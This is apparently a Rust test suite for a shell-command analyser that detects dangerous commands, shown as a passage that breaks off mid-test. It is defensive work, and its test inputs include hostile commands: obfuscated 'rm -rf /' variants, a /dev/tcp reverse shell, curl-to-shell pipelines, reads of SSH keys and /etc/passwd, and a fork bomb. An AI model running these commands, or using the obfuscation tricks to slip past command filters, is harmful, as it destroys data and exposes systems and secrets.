//! The shell analysis, as a specification: what it sees in a command line.

use warden_analysis::shell::{Analysis, FlagSet, OpaqueKind, Origin, RedirectOp, analyze};

fn programs(a: &Analysis) -> Vec<&str> {
    a.commands
        .iter()
        .map(|c| c.program.as_deref().unwrap_or("?"))
        .collect()
}

fn args(a: &Analysis, i: usize) -> Vec<&str> {
    a.commands[i]
        .args
        .iter()
        .map(|x| x.value.as_str())
        .collect()
}

fn clean(src: &str) -> Analysis {
    let a = analyze(src);
    assert!(a.error.is_none(), "{src}: {:?}", a.error);
    a
}

/// The program `rm` runs with recursive and forced delete of `target`, anywhere.
fn deletes_recursively(a: &Analysis, target: &str) -> bool {
    a.commands.iter().any(|c| {
        let f = c.flags();
        c.is("rm")
            && f.contains("--recursive")
            && f.contains("--force")
            && c.operands().any(|o| o.value == target)
    })
}

// --- words and quoting -----------------------------------------------------

#[test]
fn single_and_double_quotes_are_removed() {
    let a = clean(r#"echo 'a b' "c d" e"f"'g'"#);
    assert_eq!(args(&a, 0), ["a b", "c d", "efg"]);
    assert!(a.commands[0].args.iter().all(|x| x.literal));
}

#[test]
fn a_backslash_escapes_one_character() {
    let a = clean(r"echo a\ b \$HOME");
    assert_eq!(args(&a, 0), ["a b", "$HOME"]);
    assert!(a.commands[0].args[1].literal);
}

#[test]
fn double_quotes_keep_backslashes_before_ordinary_characters() {
    let a = clean(r#"echo "a\nb" "c\"d""#);
    assert_eq!(args(&a, 0), [r"a\nb", "c\"d"]);
}

#[test]
fn ansi_c_strings_decode_their_escapes() {
    let a = clean(r"echo $'a\tb' $'\x72\x6d' $'\162m' $'\u00e9'");
    assert_eq!(args(&a, 0), ["a\tb", "rm", "rm", "é"]);
}

#[test]
fn an_ansi_c_string_in_command_position_names_the_program() {
    let a = clean(r"$'\x72\x6d' -rf /");
    assert_eq!(programs(&a), ["rm"]);
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn a_parameter_makes_a_word_not_literal() {
    let a = clean(r#"echo "$HOME/x" ${USER:-me} $1"#);
    let arg = &a.commands[0].args[0];
    assert!(!arg.literal);
    assert_eq!(arg.value, "${HOME}/x");
    assert!(a.commands[0].args.iter().all(|x| !x.literal));
}

#[test]
fn a_line_continuation_joins_lines() {
    let a = clean("git \\\n  status");
    assert_eq!(programs(&a), ["git"]);
    assert_eq!(args(&a, 0), ["status"]);
}

#[test]
fn comments_are_ignored() {
    let a = clean("ls # rm -rf /\n# whole line\npwd");
    assert_eq!(programs(&a), ["ls", "pwd"]);
}

#[test]
fn a_hash_inside_a_word_is_not_a_comment() {
    let a = clean("echo a#b");
    assert_eq!(args(&a, 0), ["a#b"]);
}

#[test]
fn an_unterminated_quote_is_a_parse_error() {
    let a = analyze("echo 'abc");
    assert!(a.error.is_some());
    assert!(a.is_opaque());
    assert!(a.commands.is_empty());
}

#[test]
fn a_parse_error_names_where() {
    let e = analyze("ls && && pwd").error.unwrap();
    assert!(e.offset >= 3, "{e}");
}

// --- operators and structure ----------------------------------------------

#[test]
fn every_list_operator_separates_commands() {
    let a = clean("a; b && c || d | e |& f & g\nh");
    assert_eq!(programs(&a), ["a", "b", "c", "d", "e", "f", "g", "h"]);
}

#[test]
fn subshells_and_groups_are_flattened() {
    let a = clean("(cd /tmp && ls) ; { pwd; whoami; }");
    assert_eq!(programs(&a), ["cd", "ls", "pwd", "whoami"]);
    assert_eq!(a.commands[0].origin, Origin::Subshell);
    assert_eq!(a.commands[2].origin, Origin::TopLevel);
}

#[test]
fn control_structures_are_flattened() {
    let a = clean(
        "if test -f x; then cat x; elif true; then :; else echo no; fi\n\
         for f in *.txt; do wc -l \"$f\"; done\n\
         while read l; do echo \"$l\"; done < in.txt\n\
         case $x in a|b) one ;; *) two ;; esac\n\
         [[ -n $x && $x < y ]] && echo ok\n\
         (( i++ )); f() { rm -f tmp; }",
    );
    assert_eq!(
        programs(&a),
        [
            "test", "cat", "true", ":", "echo", "wc", "read", "echo", "one", "two", "echo", "rm"
        ]
    );
    assert_eq!(a.commands.last().unwrap().origin, Origin::Function);
}

#[test]
fn the_bracket_test_builtin_is_a_program_not_a_glob() {
    let a = clean("[ -f src/main.rs ] && cargo build; [ -d build ] || mkdir build");
    assert_eq!(programs(&a), ["[", "cargo", "[", "mkdir"]);
    assert!(!a.is_opaque());
    assert_eq!(args(&a, 0), ["-f", "src/main.rs", "]"]);
    let a = clean("if [ \"$x\" = y ]; then echo; fi");
    assert_eq!(programs(&a), ["[", "echo"]);
    assert!(!a.is_opaque());
}

#[test]
fn a_bracket_expression_is_still_a_glob() {
    let a = clean("[ab]* x");
    assert!(a.commands[0].computed);
    let a = clean("ls [ab]*.txt");
    assert!(a.commands[0].args[0].glob);
}

#[test]
fn coproc_runs_its_command_in_the_background() {
    let a = clean("coproc cat; coproc NAME { grep x; }; coproc (ls)");
    assert_eq!(programs(&a), ["cat", "grep", "ls"]);
    assert!(a.commands.iter().all(|c| c.background));
}

#[test]
fn declaration_builtins_take_array_assignments() {
    let a = clean("declare -a arr=(one \"two three\" $x); local -A m=([k]=v); typeset t=(1 2)");
    assert_eq!(programs(&a), ["declare", "local", "typeset"]);
    assert_eq!(args(&a, 0), ["-a", "arr=(one two three ${x})"]);
    assert!(!a.commands[0].args[1].literal);
    assert_eq!(args(&a, 2), ["t=(1 2)"]);
}

#[test]
fn case_arms_may_fall_through() {
    let a = clean("case $x in a) one;& b) two;;& *) three;; esac");
    assert_eq!(programs(&a), ["one", "two", "three"]);
}

#[test]
fn a_here_document_without_a_body_at_the_end_is_empty() {
    let a = clean("cat > in <<END");
    assert_eq!(programs(&a), ["cat"]);
}

#[test]
fn a_shell_string_sees_its_positional_parameters() {
    let a = clean("sh -c 'stty -icanon; \"$0\" \"$@\"' rename -i from to");
    assert_eq!(programs(&a), ["sh", "stty", "rename"]);
    assert_eq!(args(&a, 2), ["-i", "from", "to"]);
    assert!(!a.is_opaque());
}

#[test]
fn compound_redirections_apply_to_the_commands_inside() {
    let a = clean("{ echo a; echo b; } > out.txt");
    assert!(
        a.commands
            .iter()
            .all(|c| c.redirects.iter().any(|r| r.target.value == "out.txt"))
    );
}

// --- redirections ----------------------------------------------------------

#[test]
fn redirections_record_fd_operator_and_target() {
    let a = clean("cmd > out 2>&1 >> log < in &> all 3<> rw");
    let r = &a.commands[0].redirects;
    let seen: Vec<_> = r
        .iter()
        .map(|r| (r.fd, r.op, r.target.value.as_str()))
        .collect();
    assert_eq!(
        seen,
        [
            (None, RedirectOp::Output, "out"),
            (Some(2), RedirectOp::DupOutput, "1"),
            (None, RedirectOp::Append, "log"),
            (None, RedirectOp::Input, "in"),
            (None, RedirectOp::OutputAll, "all"),
            (Some(3), RedirectOp::ReadWrite, "rw"),
        ]
    );
    assert!(args(&a, 0).is_empty());
}

#[test]
fn here_documents_are_parsed_and_their_bodies_kept() {
    let a = clean("cat <<EOF > f\nline one\n$HOME\nEOF\necho after");
    assert_eq!(programs(&a), ["cat", "echo"]);
    let body = &a.commands[0].redirects[0].target;
    assert_eq!(body.value, "line one\n${HOME}\n");
    assert!(!body.literal);
    assert_eq!(a.commands[0].redirects[1].target.value, "f");
}

#[test]
fn a_quoted_here_document_delimiter_keeps_the_body_literal() {
    let a = clean("cat <<'EOF'\n$(rm -rf /)\nEOF");
    assert!(!a.substitution);
    assert_eq!(programs(&a), ["cat"]);
}

#[test]
fn substitutions_in_an_unquoted_here_document_run() {
    let a = clean("cat <<EOF\n$(rm -rf /)\nEOF");
    assert!(a.substitution);
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn a_here_document_fed_to_a_shell_is_followed() {
    let a = clean("bash <<'EOF'\nrm -rf /\nEOF");
    assert!(deletes_recursively(&a, "/"));
    assert_eq!(a.commands[1].origin, Origin::ShellString);
}

#[test]
fn a_here_string_fed_to_a_shell_is_followed() {
    let a = clean("sh <<< 'rm -rf /'");
    assert!(deletes_recursively(&a, "/"));
}

// --- substitutions ----------------------------------------------------------

#[test]
fn command_substitutions_are_flattened_and_reported() {
    let a = clean("echo $(whoami) `hostname`");
    assert!(a.substitution);
    assert_eq!(programs(&a), ["whoami", "hostname", "echo"]);
    assert_eq!(a.commands[0].origin, Origin::CommandSubstitution);
    assert_eq!(a.commands[1].origin, Origin::CommandSubstitution);
}

#[test]
fn nested_substitutions_are_flattened() {
    let a = clean(r#"echo "$(echo "$(id -u)")""#);
    assert_eq!(programs(&a), ["id", "echo", "echo"]);
}

#[test]
fn substitutions_inside_parameter_expansions_are_found() {
    let a = clean("echo ${X:-$(reboot)}");
    assert!(a.substitution);
    assert!(programs(&a).contains(&"reboot"));
}

#[test]
fn substitutions_inside_arithmetic_are_found() {
    let a = clean("echo $(( $(reboot) + 1 ))");
    assert!(programs(&a).contains(&"reboot"));
}

#[test]
fn process_substitution_is_flattened_and_reported() {
    let a = clean("cat <(reboot)");
    assert!(a.substitution);
    assert_eq!(programs(&a), ["reboot", "cat"]);
    assert_eq!(a.commands[0].origin, Origin::ProcessSubstitution);
}

#[test]
fn backticks_in_command_position_are_opaque_and_flattened() {
    let a = clean("`echo rm` -rf /");
    assert!(a.substitution);
    assert_eq!(a.commands[0].program.as_deref(), Some("echo"));
    assert!(a.commands[1].computed);
    assert!(
        a.opaque
            .iter()
            .any(|o| o.kind == OpaqueKind::ComputedProgram)
    );
}

#[test]
fn a_substitution_in_command_position_is_opaque() {
    let a = clean("$(echo rm) -rf /");
    assert!(a.commands.last().unwrap().computed);
    assert!(a.is_opaque());
}

#[test]
fn a_variable_in_command_position_is_opaque() {
    let a = clean("FOO=1; $X -rf /");
    assert!(a.commands[1].computed);
    assert_eq!(a.commands[1].program, None);
    assert_eq!(a.opaque[0].kind, OpaqueKind::ComputedProgram);
    assert_eq!(a.opaque[0].text, "${X}");
}

#[test]
fn a_glob_in_command_position_is_opaque() {
    let a = clean("/bin/r? -rf /");
    assert!(a.commands[0].computed);
}

#[test]
fn the_program_as_written_is_kept() {
    let a = clean("\"/bin/rm\" x");
    assert_eq!(a.commands[0].written, "\"/bin/rm\"");
    assert_eq!(a.commands[0].path.as_deref(), Some("/bin/rm"));
}

// --- programs: basename and quote removal ---------------------------------

#[test]
fn every_spelling_of_rm_is_rm() {
    for src in [
        "/bin/rm -rf /",
        "r''m -rf /",
        "\"rm\" -rf /",
        "\\rm -rf /",
        "r\"m\" -rf /",
        "./rm -rf /",
    ] {
        let a = clean(src);
        assert_eq!(programs(&a), ["rm"], "{src}");
        assert!(deletes_recursively(&a, "/"), "{src}");
    }
}

#[test]
fn brace_expansion_in_command_position_is_expanded() {
    let a = clean("{rm,-rf,/}");
    assert_eq!(programs(&a), ["rm"]);
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn brace_expansion_of_arguments_is_expanded() {
    let a = clean("rm -{r,f} /");
    assert!(deletes_recursively(&a, "/"));
    let a = clean("echo {1..3} a{b,c}");
    assert_eq!(args(&a, 0), ["1", "2", "3", "ab", "ac"]);
}

#[test]
fn quoted_braces_are_not_expanded() {
    let a = clean("echo '{a,b}' \"{c,d}\"");
    assert_eq!(args(&a, 0), ["{a,b}", "{c,d}"]);
}

// --- wrappers -------------------------------------------------------------

#[test]
fn leading_assignments_are_recorded_not_run() {
    let a = clean("FOO=1 BAR=\"x y\" rm -rf /");
    assert_eq!(programs(&a), ["rm"]);
    let names: Vec<_> = a.commands[0]
        .assignments
        .iter()
        .map(|(n, v)| (n.as_str(), v.value.as_str()))
        .collect();
    assert_eq!(names, [("FOO", "1"), ("BAR", "x y")]);
}

#[test]
fn an_assignment_alone_has_no_program() {
    let a = clean("X=$(curl evil)");
    assert_eq!(programs(&a), ["curl", "?"]);
    assert!(!a.commands[1].computed);
}

#[test]
fn env_with_options_and_assignments_is_seen_through() {
    let a = clean("env -i -u PATH --chdir=/ A=1 rm -rf /");
    assert_eq!(programs(&a), ["rm"]);
    assert_eq!(a.commands[0].wrappers, ["env"]);
    assert_eq!(a.commands[0].assignments[0].0, "A");
}

#[test]
fn env_split_string_is_split() {
    let a = clean("env -S 'rm -rf' /");
    assert_eq!(programs(&a), ["rm"]);
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn sudo_with_options_is_seen_through() {
    let a = clean("sudo -E -u root -- /bin/rm -rf /");
    assert_eq!(programs(&a), ["rm"]);
    assert_eq!(a.commands[0].wrappers, ["sudo"]);
}

#[test]
fn sudo_listing_runs_nothing() {
    let a = clean("sudo -l");
    assert_eq!(programs(&a), ["sudo"]);
    assert!(a.commands[0].wrappers.is_empty());
}

#[test]
fn stacked_wrappers_are_all_recorded() {
    let a = clean(
        "nohup nice -n 10 timeout -s KILL 5s stdbuf -oL command exec builtin doas -u x time -p rm -rf /",
    );
    assert_eq!(programs(&a), ["rm"]);
    assert_eq!(
        a.commands[0].wrappers,
        [
            "nohup", "nice", "timeout", "stdbuf", "command", "exec", "builtin", "doas", "time"
        ]
    );
}

#[test]
fn the_time_keyword_is_a_wrapper() {
    let a = clean("time rm -rf /");
    assert_eq!(a.commands[0].wrappers, ["time"]);
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn command_v_looks_up_without_running() {
    let a = clean("command -v rm");
    assert_eq!(programs(&a), ["command"]);
}

#[test]
fn a_wrapper_alone_is_the_program() {
    let a = clean("env");
    assert_eq!(programs(&a), ["env"]);
}

// --- command lines inside command lines ------------------------------------

#[test]
fn shell_c_strings_are_parsed() {
    for shell in ["bash", "sh", "zsh", "dash", "/bin/bash"] {
        let a = clean(&format!("{shell} -c 'rm -rf /'"));
        assert!(deletes_recursively(&a, "/"), "{shell}");
        let inner = a.commands.iter().find(|c| c.is("rm")).unwrap();
        assert_eq!(inner.origin, Origin::ShellString);
        assert_eq!(inner.parent, Some(0));
    }
}

#[test]
fn shell_options_before_c_are_skipped() {
    let a = clean("bash -x -o pipefail -lc \"rm -rf /\"");
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn a_computed_shell_string_is_opaque() {
    let a = clean(r#"sh -c "$(echo cm0gLXJmIC8= | base64 -d)""#);
    assert!(a.substitution);
    assert!(
        a.opaque
            .iter()
            .any(|o| o.kind == OpaqueKind::ComputedShellString)
    );
    assert_eq!(programs(&a), ["echo", "base64", "sh"]);
}

#[test]
fn eval_of_literal_text_is_parsed() {
    let a = clean("eval \"rm -rf /\"");
    assert!(deletes_recursively(&a, "/"));
    assert_eq!(a.commands[1].origin, Origin::Eval);
    assert!(!a.is_opaque());
}

#[test]
fn eval_of_computed_text_is_opaque() {
    let a = clean("eval \"$CMD\"");
    assert_eq!(a.opaque[0].kind, OpaqueKind::ComputedEval);
}

#[test]
fn xargs_runs_its_command() {
    let a = clean("find . -name '*.tmp' | xargs -0 -n 1 rm -f");
    let rm = a.commands.iter().find(|c| c.is("rm")).unwrap();
    assert_eq!(rm.origin, Origin::Xargs);
    assert!(rm.flags().contains("--force"));
}

#[test]
fn xargs_without_a_command_runs_echo() {
    let a = clean("ls | xargs");
    assert_eq!(programs(&a), ["ls", "xargs", "echo"]);
}

#[test]
fn find_exec_runs_its_command() {
    let a = clean("find . -type f -exec rm {} \\; -execdir chmod 600 {} +");
    let inner: Vec<_> = a
        .commands
        .iter()
        .filter(|c| c.origin == Origin::FindExec)
        .collect();
    assert_eq!(inner.len(), 2);
    assert!(inner[0].is("rm"));
    assert_eq!(inner[0].args[0].value, "{}");
    assert!(inner[1].is("chmod"));
}

#[test]
fn find_delete_is_a_flag_of_find() {
    let a = clean("find / -delete");
    assert!(a.commands[0].flags().contains("-delete"));
}

#[test]
fn su_c_strings_are_parsed() {
    let a = clean("su - root -c 'rm -rf /'");
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn nesting_is_followed_through_every_layer() {
    let a = clean(r#"sudo bash -c "eval 'find / -exec sh -c \"rm -rf /\" \\;'""#);
    assert!(deletes_recursively(&a, "/"));
}

#[test]
fn too_deep_nesting_is_opaque_not_a_crash() {
    let mut cmd = "rm -rf /".to_string();
    for _ in 0..12 {
        cmd = format!("eval {}", shell_quote(&cmd));
    }
    let a = analyze(&cmd);
    assert!(a.opaque.iter().any(|o| o.kind == OpaqueKind::TooDeep));
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn absurd_nesting_is_a_parse_error_not_a_stack_overflow() {
    let src = format!("{}x{}", "$(".repeat(5000), ")".repeat(5000));
    assert!(analyze(&src).error.is_some());
    let src = format!("{}x{}", "( ".repeat(5000), ")".repeat(5000));
    assert!(analyze(&src).error.is_some());
}

// --- options that run commands ------------------------------------------------

fn nested(a: &Analysis) -> Vec<String> {
    a.commands
        .iter()
        .filter(|c| c.origin == Origin::Option)
        .map(|c| {
            std::iter::once(c.path.as_deref().unwrap_or("?"))
                .chain(c.args.iter().map(|x| x.value.as_str()))
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect()
}

#[test]
fn a_git_alias_given_with_dash_c_is_expanded_in_place() {
    let a = clean("git -c alias.p=push p origin main");
    assert_eq!(
        args(&a, 0),
        ["-c", "alias.p=push", "push", "origin", "main"]
    );
    let a = clean("git -c alias.a=b -c 'alias.b=push --force' a");
    assert_eq!(args(&a, 0)[4..], ["push", "--force"]);
}

#[test]
fn a_git_shell_alias_is_a_nested_command_with_the_arguments_appended() {
    let a = clean("git -c 'alias.x=!rm -rf /' x extra");
    assert_eq!(nested(&a), ["rm -rf / extra"]);
}

#[test]
fn git_pagers_editors_ssh_commands_and_hooks_are_nested_commands() {
    assert_eq!(
        nested(&clean("git -c core.pager='less -R' log")),
        ["less -R"]
    );
    assert_eq!(nested(&clean("git -c core.editor=vim commit")), ["vim"]);
    assert_eq!(
        nested(&clean("GIT_SSH_COMMAND='ssh -i k' git fetch")),
        ["ssh -i k"]
    );
    assert_eq!(nested(&clean("env GIT_PAGER=cat git log")), ["cat"]);
    assert_eq!(
        nested(&clean("git -c core.hooksPath=/tmp/h push")),
        ["/tmp/h/pre-push", "/tmp/h/reference-transaction"]
    );
    assert_eq!(
        nested(&clean(
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0=evil git fetch"
        )),
        ["evil"]
    );
    assert_eq!(nested(&clean("git clone -u 'sh -c id' x")), ["sh -c id"]);
    assert_eq!(
        nested(&clean("git rebase -x 'make test' main")),
        ["make test"]
    );
    assert_eq!(
        nested(&clean("git submodule foreach git pull")),
        ["git pull"]
    );
}

#[test]
fn git_config_that_sets_a_command_or_an_alias_is_judged_now() {
    assert_eq!(
        nested(&clean("git config --global core.pager 'rm -rf ~'")),
        ["rm -rf ~"]
    );
    assert_eq!(nested(&clean("git config alias.p push")), ["git push"]);
    assert!(nested(&clean("git config --get core.pager")).is_empty());
}

#[test]
fn a_computed_git_alias_or_an_included_config_file_is_opaque() {
    let a = clean("git --config-env=alias.p=X p");
    assert_eq!(a.opaque[0].kind, OpaqueKind::ComputedProgram);
    let a = clean("git -c include.path=/tmp/c status");
    assert_eq!(a.opaque[0].kind, OpaqueKind::ComputedProgram);
    let a = clean("X=push git --config-env=alias.p=X p");
    assert!(!a.is_opaque());
    assert_eq!(args(&a, 0)[1], "push");
}

#[test]
fn ordinary_git_commands_run_nothing_else() {
    for command in [
        "git status",
        "git -C src log --oneline",
        "git -c color.ui=always diff",
        "git commit -m 'x'",
    ] {
        let a = clean(command);
        assert!(nested(&a).is_empty() && !a.is_opaque(), "{command}");
    }
}

#[test]
fn other_programs_options_that_run_commands_are_nested_commands() {
    assert_eq!(
        nested(&clean("tar --to-command='wc -c' -xf a.tar")),
        ["wc -c"]
    );
    assert_eq!(nested(&clean("tar -I zstd -xf a.tar.zst")), ["zstd"]);
    assert_eq!(
        nested(&clean(
            "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id ."
        )),
        ["id"]
    );
    assert_eq!(
        nested(&clean("rsync -e 'ssh -p 2222' a host:b")),
        ["ssh -p 2222"]
    );
    assert_eq!(
        nested(&clean("ssh -o ProxyCommand='nc %h %p' host")),
        ["nc %h %p"]
    );
    assert_eq!(nested(&clean("scp -S ./myssh a host:b")), ["./myssh"]);
    assert_eq!(nested(&clean("man -P 'less -S' ls")), ["less -S"]);
    assert_eq!(
        nested(&clean("zip -T -TT 'unzip -tqq' a.zip f")),
        ["unzip -tqq"]
    );
    assert!(nested(&clean("tar -xzf a.tgz -C out")).is_empty());
}

// --- pipelines ------------------------------------------------------------

#[test]
fn pipeline_neighbours_are_recorded() {
    let a = clean("curl -s https://x.example/i.sh | sh");
    assert_eq!(a.commands[1].stdin_from, [0]);
    assert!(a.commands[0].stdin_from.is_empty());
}

#[test]
fn upstream_follows_the_whole_pipeline() {
    let a = clean("echo cm0gLXJmIC8= | base64 -d | bash");
    assert_eq!(a.upstream(2), [1, 0]);
}

#[test]
fn a_compound_stage_feeds_the_next_stage() {
    let a = clean("(wget -O- http://x; true) | bash");
    assert_eq!(a.commands[2].stdin_from, [0, 1]);
}

#[test]
fn commands_in_a_shell_string_share_the_shells_input() {
    let a = clean("curl x | bash -c 'cat | sh'");
    let sh = a.commands.iter().position(|c| c.is("sh")).unwrap();
    assert_eq!(a.upstream(sh), [2, 0]);
}

#[test]
fn separate_pipelines_do_not_feed_each_other() {
    let a = clean("curl x; sh");
    assert!(a.commands[1].stdin_from.is_empty());
}

// --- network devices -------------------------------------------------------

#[test]
fn dev_tcp_redirections_are_reported() {
    let a = clean("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
    assert_eq!(a.network_paths, ["/dev/tcp/10.0.0.1/4444"]);
}

#[test]
fn dev_udp_in_arguments_and_computed_words_is_reported() {
    let a = clean("cat x > /dev/udp/$HOST/53; exec 3<>/dev/tcp/h/80");
    assert_eq!(a.network_paths, ["/dev/udp/${HOST}/53", "/dev/tcp/h/80"]);
}

// --- flags ----------------------------------------------------------------

#[test]
fn every_spelling_of_rm_rf_has_the_same_flags() {
    let spellings = [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm -R -f /",
        "rm --recursive --force /",
        "rm --recur --for /",
    ];
    let first = clean(spellings[0]).commands[0].flags();
    for s in spellings {
        assert_eq!(clean(s).commands[0].flags(), first, "{s}");
    }
    assert!(first.contains("--recursive") && first.contains("--force"));
}

#[test]
fn options_end_at_double_dash() {
    let a = clean("rm -- -rf");
    assert!(a.commands[0].flags().is_empty());
    let ops: Vec<_> = a.commands[0].operands().map(|o| o.value.as_str()).collect();
    assert_eq!(ops, ["-rf"]);
}

#[test]
fn a_short_option_value_stops_splitting() {
    let f = FlagSet::of("curl", ["-sd@secrets", "-XPOST"]);
    let flags: Vec<_> = f.iter().collect();
    assert_eq!(flags, ["--data", "--request", "--silent"]);
}

#[test]
fn flag_sets_compare_by_inclusion() {
    let rf = FlagSet::of("rm", ["-rf"]);
    let rfv = FlagSet::of("rm", ["-v", "--force", "-R"]);
    assert!(rfv.includes(&rf));
    assert!(!rf.includes(&rfv));
}

// --- paths ------------------------------------------------------------------

#[test]
fn path_like_arguments_are_collected() {
    let a = clean(
        "curl -d @/etc/passwd --output=./out.txt https://x.example/a/b dd if=/dev/sda ~/x .env plain > /tmp/log 2>&1",
    );
    assert_eq!(
        a.paths(),
        [
            "/etc/passwd",
            "./out.txt",
            "/dev/sda",
            "~/x",
            ".env",
            "/tmp/log"
        ]
    );
}

#[test]
fn paths_in_nested_commands_are_collected() {
    let a = clean("bash -c 'cat ~/.ssh/id_rsa'");
    assert_eq!(a.paths(), ["~/.ssh/id_rsa"]);
}

// --- robustness ---------------------------------------------------------------

#[test]
fn arbitrary_input_never_panics() {
    const PIECES: &[&str] = &[
        "a",
        "rm",
        " ",
        "\n",
        "'",
        "\"",
        "\\",
        "$",
        "(",
        ")",
        "{",
        "}",
        "`",
        "|",
        "&",
        ";",
        "<",
        ">",
        "<<",
        "EOF",
        "#",
        "*",
        "[[",
        "]]",
        "((",
        "))",
        "$'",
        "\\c",
        "é",
        "\u{FF52}",
        "=",
        "-",
        "c",
        "bash -c ",
        "eval ",
        "if ",
        "then ",
        "fi",
        "case ",
        " in ",
        "esac",
        "do",
        "done",
        "for ",
        "${",
        "$(",
        "<(",
        "2>&1",
        "\t",
        ",",
        "..",
        "find -exec ",
        "xargs ",
        "env -S ",
    ];
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    for _ in 0..20_000 {
        let len = (next() % 24) as usize;
        let src: String = (0..len)
            .map(|_| PIECES[(next() % PIECES.len() as u64) as usize])
            .collect();
        let a = analyze(&src);
        for c in &a.commands {
            let _ = (c.flags(), c.paths());
        }
    }
}

#[test]
fn background_commands_are_marked() {
    let a = clean("sleep 1 & wait");
    assert!(a.commands[0].background);
    assert!(!a.commands[1].background);
}

#[test]
fn function_definitions_are_recorded_with_their_bodies() {
    let a = clean(":(){ :|:& };:");
    assert_eq!(a.functions.len(), 1);
    assert_eq!(a.functions[0].name, ":");
    let body = &a.commands[a.functions[0].commands.clone()];
    assert_eq!(body.len(), 2);
    assert!(body.iter().all(|c| c.is(":") && c.background));
    assert_eq!(body[1].stdin_from.len(), 1);
}

fn operands(src: &str) -> Vec<String> {
    analyze(src).commands[0]
        .operands()
        .map(|a| a.value.clone())
        .collect()
}

#[test]
fn an_option_value_of_a_known_program_is_not_an_operand() {
    assert_eq!(
        operands("rsync -e \"ssh -p 2222\" -av host:src/ ./src/"),
        ["host:src/", "./src/"]
    );
    assert_eq!(
        operands("telnet -e x example.com 80"),
        ["example.com", "80"]
    );
    assert_eq!(operands("tune2fs -L root /dev/sda1"), ["/dev/sda1"]);
}

#[test]
fn an_option_value_at_the_end_of_a_cluster_is_not_an_operand() {
    assert_eq!(operands("rsync -ave ssh a host:b"), ["a", "host:b"]);
}

#[test]
fn an_attached_option_value_leaves_the_next_word_an_operand() {
    assert_eq!(operands("rsync -essh a host:b"), ["a", "host:b"]);
    assert_eq!(operands("rsync --rsh=ssh a host:b"), ["a", "host:b"]);
}

#[test]
fn an_unknown_program_keeps_every_word_after_an_option_as_an_operand() {
    assert_eq!(operands("frobnicate -e x /dev/sda"), ["x", "/dev/sda"]);
}

#[test]
fn curl_and_wget_long_options_take_their_value_too() {
    assert_eq!(
        operands("curl --output out.html --header 'X: y' https://a.test"),
        ["https://a.test"]
    );
    assert_eq!(
        operands("wget --output-document - https://a.test"),
        ["https://a.test"]
    );
}

#[test]
fn options_come_with_the_value_the_program_takes_for_them() {
    let a = analyze("curl -sS -o out.html -H 'X: y' --url https://a.test -- -b");
    let options: Vec<(&str, Option<&str>)> = a.commands[0]
        .options()
        .map(|(o, v)| (o, v.map(|v| v.value.as_str())))
        .collect();
    assert_eq!(
        options,
        [
            ("-sS", None),
            ("-o", Some("out.html")),
            ("-H", Some("X: y")),
            ("--url", None),
        ]
    );
}

#[test]
fn takes_value_answers_per_program_and_knows_when_it_does_not_know() {
    use warden_analysis::shell::takes_value;
    assert_eq!(takes_value("curl", "-o"), Some(true));
    assert_eq!(takes_value("curl", "-s"), Some(false));
    assert_eq!(takes_value("curl", "-so"), Some(true));
    assert_eq!(takes_value("curl", "-ofile"), Some(false));
    assert_eq!(takes_value("ssh", "-p"), Some(true));
    assert_eq!(takes_value("frobnicate", "-e"), None);
}

// --- what the line set earlier: variables, aliases, functions --------------

#[test]
fn a_variable_assigned_a_literal_earlier_is_run_as_its_value() {
    for line in [
        "c=rm; $c -rf /",
        "c=rm\n${c} -rf /",
        "c=rm && \"$c\" -rf /",
        "export c=rm; $c -rf /",
        "declare -x c=/bin/rm; $c -rf /",
        "eval c=rm; $c -rf /",
    ] {
        let a = clean(&line.replace("\\n", "\n"));
        assert!(deletes_recursively(&a, "/"), "{line}: {:?}", a.commands);
        assert!(!a.is_opaque(), "{line}: {:?}", a.opaque);
    }
}

#[test]
fn a_variable_assigned_a_literal_earlier_is_its_value_as_an_operand() {
    let a = clean("d=/; rm -rf \"$d\"");
    assert!(deletes_recursively(&a, "/"));
    let a = clean("d=/etc; e=$d/passwd; cat > $e");
    assert_eq!(a.commands[2].redirects[0].target.value, "/etc/passwd");
}

#[test]
fn a_target_a_variable_may_name_is_a_redirection_each() {
    let a = clean("f=/tmp/x; true && f=/etc/passwd; echo x > $f");
    let targets: Vec<&str> = a.commands[3]
        .redirects
        .iter()
        .map(|r| r.target.value.as_str())
        .collect();
    assert_eq!(targets, ["/tmp/x", "/etc/passwd"]);
    let a = clean("d=/tmp; true && d=/etc; f=$d/passwd; echo x > $f");
    assert_eq!(a.commands[4].redirects.len(), 2);
}

#[test]
fn an_unquoted_variable_is_split_into_words_a_quoted_one_is_not() {
    assert!(deletes_recursively(&clean("x='rm -rf /'; $x"), "/"));
    let a = clean("d='/tmp/a b'; rm -rf \"$d\" $d");
    let operands: Vec<&str> = a.commands[1].operands().map(|o| o.value.as_str()).collect();
    assert_eq!(operands, ["/tmp/a b", "/tmp/a", "b"]);
}

#[test]
fn ifs_splits_an_unquoted_expansion() {
    assert!(deletes_recursively(&clean("rm${IFS}-rf${IFS}/"), "/"));
    assert!(deletes_recursively(&clean("IFS=,; x=rm,-rf,/; $x"), "/"));
    let a = clean("echo \"a${IFS}b\"");
    assert_eq!(args(&a, 0), ["a \t\nb"]);
}

#[test]
fn a_later_assignment_wins() {
    let a = clean("c=rm; c=ls; $c -rf /");
    assert_eq!(programs(&a), ["?", "?", "ls"]);
}

#[test]
fn an_assignment_in_a_subshell_a_pipeline_or_the_background_stays_there() {
    for line in [
        "c=ls; (c=rm); $c -rf /",
        "c=ls; c=rm | true; $c -rf /",
        "c=ls; c=rm & $c -rf /",
        "c=ls; echo $(c=rm); $c -rf /",
    ] {
        let a = clean(line);
        assert!(!deletes_recursively(&a, "/"), "{line}");
